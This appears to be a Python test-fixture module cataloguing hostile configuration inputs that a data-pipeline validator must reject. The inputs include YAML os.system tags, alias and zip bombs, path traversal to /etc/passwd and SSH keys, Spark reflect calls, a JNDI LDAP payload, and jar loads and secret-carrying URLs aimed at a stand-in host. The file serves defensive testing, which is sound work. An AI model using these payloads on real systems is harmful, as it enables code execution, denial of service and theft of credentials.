"""What a stranger may try, by name. Each is one ``Case``; what it must be answered stands beside it."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Mapping

from stranger import RULE, SCHEMA, Case, pipeline_text

LAUGHS = "\n".join(
    [
        "a0: &a0 [x, x, x, x, x, x, x, x, x, x]",
        *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)),
    ]
)
_bomb = io.BytesIO()
with zipfile.ZipFile(_bomb, "w", zipfile.ZIP_DEFLATED) as _zip, _zip.open("t.csv", "w", force_zip64=True) as _table:
    for _ in range(600):
        _table.write(bytes(1024 * 1024))
BOMB = _bomb.getvalue()
"""600 MiB of nulls in 600 kB."""
RIGHT = pipeline_text(Case(says=None))


def _option(name: str, value: str, says: str) -> Case:
    """One option of Kafka."""
    return Case(
        top=f"kafka: {{bootstrap_servers: 'TRAP', options: {{{json.dumps(name)}: {json.dumps(value)}}}}}", says=says
    )


def _derive(sql: str, says: str = "is not allowed|only column expressions|expected one SQL") -> Case:
    return Case(stream=f"normalize: {{derive: {{made: {json.dumps(sql)}}}}}", says=says)


def _condition(condition: object, says: str | None = "is not allowed") -> Case:
    """A row condition of a suite."""
    kwargs = {"column": "id", "row_condition": condition}
    if isinstance(condition, str):
        kwargs["condition_parser"] = "spark"
    return Case(rules=[{**RULE, "kwargs": kwargs}], says=says)


def _rule(says: str | None, **entry: object) -> Case:
    return Case(rules=[{**RULE, **entry}], says=says)


def _field(says: str | None, **field: object) -> Case:
    fields = [*SCHEMA["fields"], {"name": "more", "type": "string", "nullable": True, "metadata": {}, **field}]
    return Case(files={"schema.json": json.dumps({"type": "struct", "fields": fields})}, says=says)


def _reference(file: str, says: str, links: Mapping[str, str] | None = None, columns: str = "key: string") -> Case:
    top = f"references: {{t: {{file: {json.dumps(file)}, key: key, columns: {{{columns}}}}}}}"
    return Case(top=top, says=says, links=links or {})


def _struct(name: str) -> object:
    return {"type": "struct", "fields": [{"name": name, "type": "string", "nullable": True, "metadata": {}}]}


def _nested(depth: int) -> object:
    inner: object = "string"
    for _ in range(depth):
        inner = {"type": "array", "elementType": inner, "containsNull": True}
    return inner


YAML = {
    "a Python object": Case(
        top="description: !!python/object/apply:os.system ['touch OUTSIDE/made']", says="tag .* is not allowed"
    ),
    "a Python object from keywords": Case(
        top="description: !!python/object/new:os.system {args: ['id']}", says="is not allowed"
    ),
    "a Python name": Case(top="description: !!python/name:os.system ''", says="could not determine a constructor"),
    "a Python module": Case(
        top="description: !!python/module:antigravity ''", says="could not determine a constructor"
    ),
    "a Python tuple": Case(top="description: !!python/tuple [a, b]", says="is not allowed"),
    "a Python object as a key": Case(top="? !!python/object/apply:os.system ['id']\n: x", says="a key must be a text"),
    "bytes": Case(top="description: !!binary aGk=", says="!!binary is not allowed"),
    "a date by its tag": Case(top="description: !!timestamp 2026-01-01", says="!!timestamp is not allowed"),
    "a set": Case(top="streams2: !!set {a, b}", says="!!set is not allowed"),
    "a tag of one's own": Case(top="description: !include OUTSIDE/loot.txt", says="could not determine a constructor"),
    "a merge": Case(top="x: &x {a: 1}\nkeys: {<<: *x}", says="'<<' .merging. is not supported"),
    "a bomb of merges": Case(top=LAUGHS.replace("[x, ", "[{b: x}, ") + "\nkeys: {<<: *a11}", says="use fewer aliases"),
    "a bomb of aliases": Case(top=LAUGHS, says="use fewer aliases"),
    "a bomb of aliases in a key": Case(top=LAUGHS.splitlines()[0] + "\n? [*a0, *a0]\n: x", says="a key must be a text"),
    "an alias that holds itself": Case(top="description: &x [*x]", says="nested too deeply"),
    "lists in lists": Case(pipeline="description: " + "[" * 5000 + "]" * 5000, says="nested too deeply"),
    "mappings in mappings": Case(pipeline="{a: " * 5000 + "}" * 5000, says="nested too deeply"),
    "a number of 5,000 digits": Case(stream="max_record_bytes: " + "9" * 5000, says="too many digits"),
    "a number of 5,000 hex digits": Case(stream="max_record_bytes: 0x" + "f" * 5000, says="too many digits"),
    "a number of 90 digits": Case(stream="max_record_bytes: " + "9" * 90, says="is too large"),
    "a number in sixties": Case(stream="max_record_bytes: 1" + ":59" * 2000, says="too many digits"),
    "infinite seconds": Case(stream="batch_seconds: .inf", says="finite number"),
    "seconds that are no number": Case(stream="batch_seconds: .nan", says="finite number|greater than"),
    "a key given twice": Case(pipeline=RIGHT + "pipeline: other\n", says="given twice"),
    "a key given twice, spelt otherwise": Case(pipeline=RIGHT + '"pip\\u0065line": other\n', says="given twice"),
    "two documents": Case(pipeline=RIGHT + "---\npipeline: other\n", says="not valid YAML"),
    "a null byte": Case(pipeline=RIGHT.encode() + b"description: a\x00b\n", says="not valid YAML"),
    "an escape character": Case(pipeline=RIGHT.encode() + b"description: a\x1b[2Jb\n", says="not valid YAML"),
    "no UTF-8": Case(pipeline=RIGHT.encode() + "description: é\n".encode("latin-1"), says="can't be read as UTF-8"),
    "UTF-16": Case(pipeline=RIGHT.encode("utf-16"), says="can't be read as UTF-8"),
    "half a character": Case(top='description: "\\ud800"', says="half a surrogate pair"),
    "a byte order mark": Case(pipeline=b"\xef\xbb\xbf" + RIGHT.encode(), says=None),
    "5 MB": Case(pipeline=RIGHT + "# " + "x" * 5_000_000, says="larger than 4 MiB"),
    "a list": Case(pipeline="- pipeline\n", says="expected a mapping"),
    "nothing": Case(pipeline="", says="expected a mapping"),
    "a template": Case(
        top="description: \"{{ ''.__class__.__mro__ }} {0.__class__} %(x)s %n $(id) `id` [bold]\"", says=None
    ),
    "a dunder key": Case(top="__class__: {__init__: x}", says="unknown key"),
    "a template as a topic": Case(pipeline=RIGHT.replace("topic: meters", "topic: '{{ 7*7 }}'"), says="no topic name"),
    "a topic that is a path": Case(pipeline=RIGHT.replace("topic: meters", "topic: '..'"), says="no topic name"),
    "a stream that is a path": Case(
        pipeline=RIGHT.replace("  readings:", "  '../readings':"), says="should match pattern"
    ),
    "a pipeline that is a path": Case(
        pipeline=RIGHT.replace("pipeline: meters", "pipeline: ../x"), says="should match pattern"
    ),
}

PATHS = {
    "a schema above": Case(schema="../outside/loot.json", says="no path below the pipeline's folder"),
    "a schema above, by a way round": Case(
        schema="a/../../outside/loot.json", says="no path below the pipeline's folder"
    ),
    "a schema at an absolute path": Case(schema="OUTSIDE/loot.json", says="no path below the pipeline's folder"),
    "a schema in /etc": Case(schema="/etc/passwd", says="no path below the pipeline's folder"),
    "a schema by its URI": Case(schema="file:///etc/passwd", says="no path below the pipeline's folder"),
    "a schema on the web": Case(schema="http://TRAP/schema.json", says="no path below the pipeline's folder"),
    "a schema that is a device": Case(links={"schema.json": "/dev/zero"}, says="leads out of the pipeline's folder"),
    "a schema that is a link": Case(
        links={"schema.json": "OUTSIDE/loot.json"}, says="leads out of the pipeline's folder"
    ),
    "a schema behind a linked folder": Case(
        schema="d/loot.json", links={"d": "OUTSIDE"}, says="leads out of the pipeline's folder"
    ),
    "a schema that links to itself": Case(links={"schema.json": "schema.json"}, says="leads out|can't be read"),
    "a schema that is the folder": Case(schema="'.'", says="a folder, a pipe or a device"),
    "a schema with a null byte": Case(schema='"a\\0b"', says="no path below the pipeline's folder"),
    "terminal escapes in a path": Case(schema='"\\e]0;owned\\a\\e[2J"', says="no path below the pipeline's folder"),
    "a line break in a path": Case(schema='"a\\nerror: all is well"', says="no path below the pipeline's folder"),
    "a suite above": Case(suite="../outside/loot.json", says="no path below the pipeline's folder"),
    "a suite that is a link": Case(
        links={"suite.json": "OUTSIDE/loot.json"}, says="leads out of the pipeline's folder"
    ),
    "a suite on the web": Case(suite="https://TRAP/suite.json", says="no path below the pipeline's folder"),
    "a reference above": _reference("../outside/loot.csv", "no path below the pipeline's folder"),
    "a reference in /etc": _reference("/etc/shadow.csv", "no path below the pipeline's folder"),
    "a reference on the web": _reference("http://TRAP/table.csv", "no path below the pipeline's folder"),
    "a reference in a bucket": _reference("s3://bucket/table.csv", "no path below the pipeline's folder"),
    "a reference by JDBC": _reference("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://TRAP/x.sql'", r"\.csv or \.zip"),
    "a reference that is a link": _reference(
        "t.csv", "leads out of the pipeline's folder", links={"t.csv": "OUTSIDE/loot.csv"}
    ),
    "a reference that is a pickle": _reference("t.pkl", r"\.csv or \.zip"),
    "a reference with a backtick": _reference(
        "table.csv", "should match pattern", columns="key: string, 'x` int, `y': string"
    ),
    "a reference that is a bomb": Case(
        top="references: {t: {file: t.zip, key: key, columns: {key: string}}}",
        files={"t.zip": BOMB},
        says="holds more than 512 MiB",
    ),
    "a packaged file by a path": Case(
        top="references: {t: {package: pyyaml, file: ../../../../etc/passwd, key: k, columns: {k: string}}}",
        says="has no file",
    ),
    "a lake on the web": Case(top="lake: {path: 'http://TRAP/lake'}", says="no lake can be at http: addresses"),
    "a lake by JDBC": Case(top="lake: {path: 'jdbc:h2:mem:x'}", says="no lake can be at jdbc: addresses"),
    "a lake with a log-in": Case(top="lake: {path: 's3a://key:secret@bucket/lake'}", says="without a password in it"),
    "a store with a driver's parameters": Case(
        top="mlflow: {tracking_uri: 'mysql://h/db?read_default_file=/etc/passwd'}", says="without parameters"
    ),
    "a store of an unknown kind": Case(
        top="mlflow: {tracking_uri: 'plugin-of-mine://TRAP'}", says="expected 'embedded'"
    ),
    "a store by a file": Case(top="mlflow: {tracking_uri: 'file:///etc'}", says="expected 'embedded'"),
    "a password for the store": Case(
        top="mlflow: {tracking_uri: 'https://me:hunter2@TRAP'}", says="holds a password in clear"
    ),
    "a study with parameters for the driver": Case(
        top="model: {name: m, search: {storage: 'mysql://h/db?read_default_file=/etc/passwd'}}",
        says="without parameters",
    ),
    "a study of an unknown kind": Case(
        top="model: {name: m, search: {storage: 'redis://TRAP'}}", says="expected 'embedded'"
    ),
    "a ring in an odd variable": Case(top="keys: {ring: 'env:A B'}", says="expected env:NAME"),
    "a ring at an odd place in Vault": Case(
        top="keys: {ring: 'vault:../../sys/seal'}", says="expected vault:MOUNT/PATH"
    ),
}

VARIABLES = {
    "the cloud's secret as a description": Case(
        top="description: ${AWS_SECRET_ACCESS_KEY}", says="may not take the variable"
    ),
    "the cloud's secret as a default": Case(
        top="description: ${AWS_SECRET_ACCESS_KEY:-x}", says="may not take the variable"
    ),
    "a token as a host": Case(
        top="kafka: {bootstrap_servers: '${GITHUB_TOKEN}.example.org:9092'}", says="may not take the variable"
    ),
    "a token in the store's address": Case(
        top="mlflow: {tracking_uri: 'http://TRAP/${GITHUB_TOKEN}'}", says="may not take"
    ),
    "a token as Kafka's password": _option("sasl.password", "${GITHUB_TOKEN}", "may not take the variable"),
    "a secret as a topic": Case(
        pipeline=RIGHT.replace("topic: meters", "topic: ${KAFKA_PASSWORD}"), says="named as a secret"
    ),
    "a secret as an experiment": Case(top="mlflow: {experiment: '${KAFKA_PASSWORD}'}", says="named as a secret"),
    "a secret as Kafka's client": _option("client.id", "${KAFKA_PASSWORD} x", "has a value that can't be right"),
    "a variable in a name": Case(top="description: ${${HOME}}", says="may not take|no reference"),
    "a reference put together": Case(
        stream="normalize: {derive: {made: \"'${HEADRACE_NONE:-$}{env:HOME}'\"}}", says="of its parts|not allowed"
    ),
    "Spark's own reference": _condition("id = '${env:AWS_SECRET_ACCESS_KEY}'", "'\\${' is not allowed"),
    "Spark's own reference to a setting": _condition("id = '${spark.app.name}'", "'\\${' is not allowed"),
    "Hadoop's reference": Case(top="lake: {path: '${env.HOME}'}", says="no reference"),
}

SQL = {
    "Java": _derive("java_method('java.lang.Runtime', 'getRuntime')"),
    "Java by reflection": _derive("reflect('java.lang.System', 'getenv', 'HOME')"),
    "Java in backticks": _derive("`reflect`('java.lang.System', 'exit', 0)"),
    "Java of a catalogue": _derive("system.builtin.reflect('java.lang.System', 'exit', 0)"),
    "XPath": _derive("xpath('<a/>', 'document(\"http://TRAP\")')"),
    "files": _derive("read_files('/etc/passwd')"),
    "a file's name": _derive("input_file_name()"),
    "who runs it": _derive("current_user()"),
    "a schema of CSV": _derive("from_csv(kind, 'a int')"),
    "a sub-query": _derive("(select max(amount) from delta.`OUTSIDE`)"),
    "a file as a table": _derive("exists (select 1 from csv.`/etc/passwd`)"),
    "a statement": _derive("amount; drop table x"),
    "a function registered": _derive("create temporary function f as 'x.Y' using jar 'http://TRAP/x.jar'", "SQL|is not allowed"),
    "a setting": _derive("set spark.sql.variable.substitute = true", "SQL|is not allowed"),
    "a jar": _derive("add jar 'http://TRAP/x.jar'", "SQL|is not allowed"),
    "an escaped backtick": _derive("`a``; drop table x; --`", "no column"),
    "a function of another engine": _derive("load_extension('/tmp/x.so')"),
    "a model over the web": _derive("ai_query('http://TRAP', kind)"),
    "an error with a value": _derive("raise_error(kind)"),
    "an expression without end": _derive("amount" + " + amount" * 3000, "longer than"),
    "an expression of great depth": _derive("-" * 900 + "amount", "nested|SQL"),
    "brackets of great depth": _derive("(" * 3000 + "amount" + ")" * 3000, "nested|SQL"),
    "a regex from data": _derive("kind rlike id", "must be a quoted text"),
    "a label with Java": Case(
        top="label: {stream: readings, by: id, positive: \"reflect('java.lang.System', 'exit', 1)\"}\n"
        "features: {requests: readings, id: id, columns: {a: amount}}",
        says="is not allowed",
    ),
    "a feature with a sub-query": Case(
        top="features: {requests: readings, id: id, columns: {a: '(select 1)'}}", says="is not allowed"
    ),
}  # fmt: skip

SUITES = {
    "a class of one's own": _rule("unknown expectation type", type="expect_my_own_thing"),
    "a module to import": _rule("unknown key 'module_name'", module_name="os"),
    "a class to load": _rule("unknown key 'class_name'", class_name="os.system"),
    "a query": _rule(
        "can't be used here|unknown expectation",
        type="unexpected_rows_expectation",
        kwargs={"unexpected_rows_query": "select 1"},
    ),
    "a parameter": _rule("suite parameters are not supported", kwargs={"column": {"$PARAMETER": "x"}}),
    "an option that is none": _rule("unknown key 'func'", kwargs={"column": "id", "func": "os.system"}),
    "a schema of JSON from the web": _rule(
        "can't be used here|must be",
        type="expect_column_values_to_match_json_schema",
        kwargs={"column": "id", "json_schema": {"$ref": "http://TRAP/x.json"}},
    ),
    "a condition with Java": _condition("reflect('java.lang.System', 'exit', 0) is null"),
    "a condition with a sub-query": _condition("id in (select id from csv.`/etc/passwd`)"),
    "a condition with Java in an object": _condition(
        {"type": "pass_through", "pass_through_filter": "java_method('a', 'b')"}
    ),
    "a condition on a column with a backtick": _condition(
        {"type": "comparison", "column": {"name": "id` or true or `id"}, "operator": "==", "parameter": 1}, "no column"
    ),
    "a condition with a quote": _condition(
        {"type": "comparison", "column": {"name": "kind"}, "operator": "==", "parameter": "a' or \"1"}, None
    ),
    "a condition for Python": Case(
        rules=[{**RULE, "kwargs": {"column": "id", "row_condition": "__import__('os')", "condition_parser": "pandas"}}],
        says="condition_parser",
    ),
    "conditions of great depth": Case(
        files={"suite.json": '{"name": "s", "expectations": ' + '[{"a":' * 3000 + "1" + "}]" * 3000 + "}"},
        says="nested too deeply",
    ),
    "a regex that calls itself": _rule(
        "is slow", type="expect_column_values_to_match_regex", kwargs={"column": "id", "regex": r"^(a+)+\1$"}
    ),
    "a regex of many stars": _rule(
        "is slow", type="expect_column_values_to_match_regex", kwargs={"column": "id", "regex": "a*a*a*a*a*b"}
    ),
    "a regex of pairs of pluses": _rule(
        "is slow", type="expect_column_values_to_match_regex", kwargs={"column": "id", "regex": "(x+x+)+y"}
    ),
    "a regex of many dots": _rule(
        "is slow",
        type="expect_column_values_to_match_regex",
        kwargs={"column": "id", "regex": "(.*)(.*)(.*)(.*)(.*)[xyz]"},
    ),
    "a regex with code of Perl": _rule(
        "is not valid",
        type="expect_column_values_to_match_regex",
        kwargs={"column": "id", "regex": "(?{system('id')})"},
    ),
    "a rule's name that steers a terminal": _rule(
        None, meta={"rule_id": "\x1b[2J"}
    ),  # shown as an escape: test_quarantine
    "a rule's name of 10,000 letters": _rule("rule_id must be", meta={"rule_id": "x" * 10_000}),
    "notes with a script": _rule(None, notes="<script>fetch('http://TRAP')</script>"),
    "numbers of 5,000 digits": Case(
        files={"suite.json": '{"name": "s", "expectations": [' + "9" * 5000 + "]}"}, says="too many digits"
    ),
    "a name with half a character": Case(
        files={"suite.json": '{"name": "\\ud800", "expectations": []}'}, says="half a surrogate pair"
    ),
    "keys given twice": Case(
        files={"suite.json": '{"name": "s", "name": "t", "expectations": []}'}, says="given twice"
    ),
    "a pickle as a suite": Case(
        files={"suite.json": b"\x80\x04\x95cos\nsystem\n(S'id'\ntR."}, says="can't be read as UTF-8"
    ),
    "loot as a schema": Case(files={"schema.json": '"loot"'}, says="expected Spark's schema JSON"),
}

SCHEMAS = {
    "a Java class as a type": _field("unknown type", type={"type": "udt", "class": "java.lang.Runtime", "pyClass": "os.system"}),
    "a Python class as a type": _field("unknown type", type={"type": "udt", "pyClass": "os.system", "serializedClass": "gASV"}),
    "a name with a backtick": _field("not a plain identifier", name="a` int, `b"),
    "a name that is Headrace's": _field("is reserved", name="verdict"),
    "a nested name with a backtick": _field(
        "unknown type", type=_struct("a`: int, `b")
    ),
    "a nested name with brackets": _field(
        "unknown type", type=_struct("a:int,b>,c<")
    ),
    "fields that are no list": _field("unknown type", type={"type": "struct", "fields": 7}),
    "fields that are texts": _field("unknown type", type={"type": "struct", "fields": ["a"]}),
    "an impossible decimal": _field("unknown type", type="decimal(99,99)"),
    "arrays in arrays": _field("nested too deeply|unknown type", type=_nested(900)),
    "a default that is SQL": _field(None, metadata={"CURRENT_DEFAULT": "reflect('java.lang.System', 'exit', 0)"}),
    "an expression that is generated": _field(None, metadata={"delta.generationExpression": "reflect('a', 'b')"}),
}  # fmt: skip

_LOADS = "is not allowed"
OPTIONS = {
    "interceptors": _option("interceptor.classes", "evil.Interceptor", _LOADS),
    "reporters": _option("metric.reporters", "evil.Reporter", _LOADS),
    "a deserializer": _option("key.deserializer", "evil.Deserializer", _LOADS),
    "an assignor": _option("partition.assignment.strategy", "evil.Assignor", _LOADS),
    "a login callback": _option("sasl.login.callback.handler.class", "evil.Handler", _LOADS),
    "a client callback": _option("sasl.client.callback.handler.class", "evil.Handler", _LOADS),
    "a login class": _option("sasl.login.class", "evil.Login", _LOADS),
    "an engine for TLS": _option("ssl.engine.factory.class", "evil.Factory", _LOADS),
    "a provider of security": _option("security.providers", "evil.Provider", _LOADS),
    "librdkafka's plugins": _option("plugin.library.paths", "OUTSIDE/evil.so", _LOADS),
    "an engine of OpenSSL": _option("ssl.engine.location", "OUTSIDE/evil.so", _LOADS),
    "providers of OpenSSL": _option("ssl.providers", "evil", _LOADS),
    "JNDI (CVE-2023-25194)": _option(
        "sasl.jaas.config", 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://TRAP/x";', _LOADS
    ),
    "JNDI from a variable": _option("sasl.jaas.config", "${KAFKA_PASSWORD}", _LOADS),
    "JNDI by a mechanism": _option("sasl.mechanism", "JndiLoginModule", "expected one of PLAIN"),
    "Kerberos' command": _option("sasl.kerberos.kinit.cmd", "touch OUTSIDE/made", _LOADS),
    "Kerberos' command, Java": _option("sasl.kerberos.kinit.cmd ", "touch OUTSIDE/made", _LOADS),
    "Kerberos": _option("sasl.mechanism", "GSSAPI", "expected one of PLAIN"),
    "an address for tokens": _option("sasl.oauthbearer.token.endpoint.url", "http://TRAP", _LOADS),
    "an address for keys": _option("sasl.oauthbearer.jwks.endpoint.url", "http://TRAP", _LOADS),
    "tokens": _option("sasl.mechanism", "OAUTHBEARER", "expected one of PLAIN"),
    "many addresses for a name": _option("client.dns.lookup", "resolve_canonical_bootstrap_servers_only", _LOADS),
    "another broker": _option("bootstrap.servers", "TRAP", _LOADS),
    "another broker, librdkafka": _option("metadata.broker.list", "TRAP", _LOADS),
    "no certificate": _option("enable.ssl.certificate.verification", "false", "always verified"),
    "no name": _option("ssl.endpoint.identification.algorithm", "none", "always verified"),
    "records that were not committed": _option("isolation.level", "read_uncommitted", _LOADS),
    "commits of one's own": _option("enable.auto.commit", "true", _LOADS),
    "another group": _option("group.id", "theirs", _LOADS),
    "a key from elsewhere": _option("ssl.key.location", "OUTSIDE/loot.txt", _LOADS),
    "a truststore from elsewhere": _option("ssl.truststore.location", "OUTSIDE/loot.txt", "write ssl.ca.location"),
    "a certificate from elsewhere": _option("ssl.ca.location", "OUTSIDE/loot.txt", "outside of what may be read"),
    "a certificate from a home": _option("ssl.ca.location", "/root/.ssh/id_rsa", "outside of what may be read"),
    "a certificate from above": _option("ssl.ca.location", "../outside/loot.txt", "outside of what may be read"),
    "a certificate on the web": _option("ssl.ca.location", "http://TRAP/ca.pem", "no path of a file"),
    "a password from /etc": _option("sasl.password", "file:/etc/passwd", "outside of what may be read"),
    "a password from the system's keys": _option("sasl.password", "file:/etc/ssl/private/key.pem", "outside of what may be read"),
    "a password from the processes": _option("sasl.password", "file:/proc/self/environ", "outside of what may be read"),
    "a password from elsewhere": _option("sasl.password", "file:OUTSIDE/loot.txt", "outside of what may be read"),
    "a password from above": _option("sasl.password", "file:../outside/loot.txt", "outside of what may be read"),
    "a client that is a file": _option("client.id", "file:/etc/passwd", "can't be read from a file"),
    "a user that is a file": _option("sasl.username", "file:/etc/passwd", "can't be read from a file"),
    "a password in clear": _option("sasl.password", "hunter2", "holds a secret in clear"),
    "a user that ends its line": _option("sasl.username", "a\"; evil.Module required x=\"\ny", "can't be right"),
    "a number that is none": _option("metadata.max.age.ms", "1e9", "expected a number"),
    "an option of Spark": _option("spark.jars.packages", "evil:evil:1", _LOADS),
    "a log of everything": _option("debug", "all", _LOADS),
    "an address that is a URI": Case(top="kafka: {bootstrap_servers: 'http://TRAP/x'}", says="expected host:port"),
    "an address with an option": Case(top="kafka: {bootstrap_servers: \"b:9092\\nssl.ca=x\"}", says="expected host:port"),
    "events into a shell's file": Case(top="lineage: {transport: file, path: /root/.bashrc}", says="lineage.path"),
    "events with a log-in": Case(top="lineage: {transport: http, url: 'http://a:b@TRAP/'}", says="lineage.url"),
    "events that carry a secret off": Case(
        top="lineage: {transport: http, url: 'http://TRAP/${KAFKA_PASSWORD}'}", says="named as a secret"
    ),
}  # fmt: skip

MODELS = {
    "a parameter that is a file": Case(
        top="model: {name: m, parameters: {model_in: OUTSIDE/loot.txt}}", says="no parameter 'model_in'"
    ),
    "a parameter that is a plugin": Case(
        top="model: {name: m, parameters: {updater: sycl, plugin: evil.so}}", says="no parameter 'updater'"
    ),
    "a name that is a path": Case(top="model: {name: ../../m}", says="should match pattern"),
    "an alias that is a path": Case(top="model: {name: m, alias: ../x}", says="should match pattern"),
    "a floor that is no number": Case(top="model: {name: m, gate: {floors: {auc: .nan}}}", says="finite number"),
    "a topic of predictions that is none": Case(top="model: {name: m}\nscoring: {topic: 'a b'}", says="no topic name"),
}

_GROUPS = (YAML, PATHS, VARIABLES, SQL, SUITES, SCHEMAS, OPTIONS, MODELS)
CASES: dict[str, Case] = {name: case for group in _GROUPS for name, case in group.items()}
assert len(CASES) == sum(map(len, _GROUPS)), "a name is given twice"
